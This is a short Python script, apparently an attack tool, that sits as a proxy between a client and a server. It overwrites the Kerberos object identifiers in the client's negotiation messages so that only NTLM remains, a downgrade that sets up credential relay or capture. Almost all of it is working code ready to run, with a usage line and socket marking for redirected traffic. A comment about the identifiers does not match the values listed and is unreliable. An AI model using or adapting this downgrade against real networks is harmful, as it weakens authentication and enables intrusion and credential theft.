"""Stands between a client and a server, and overwrites the object identifiers of Kerberos in what the client sends with ones
of the same length that nobody uses, so that NTLM alone is left in its list.

usage: overwrite_mechanisms.py PORT SERVER SERVER_PORT

Its own connections carry the mark 1, by which they are not sent back to it.
"""

import socket
import sys
import threading

# Of Windows, of RFC 4121, and user to user; the last is the second with one octet more.
KERBEROS = [bytes.fromhex("2a864882f712010202"), bytes.fromhex("2a864886f712010202")]
NOBODY = bytes.fromhex("2b0601010101010101")
MARK = 1


def carry(source, target, change):
    while data := source.recv(65536):
        target.sendall(change(data))
    target.shutdown(socket.SHUT_WR)


def overwrite(data):
    for identifier in KERBEROS:
        data = data.replace(b"\x06\x09" + identifier, b"\x06\x09" + NOBODY)
    return data


def main():
    port, server, server_port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    listener = socket.create_server(("", port))
    while True:
        client, _ = listener.accept()
        onward = socket.socket()
        onward.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, MARK)
        onward.connect((server, server_port))
        for way in [(client, onward, overwrite), (onward, client, bytes)]:
            threading.Thread(target=carry, args=way, daemon=True).start()


main()
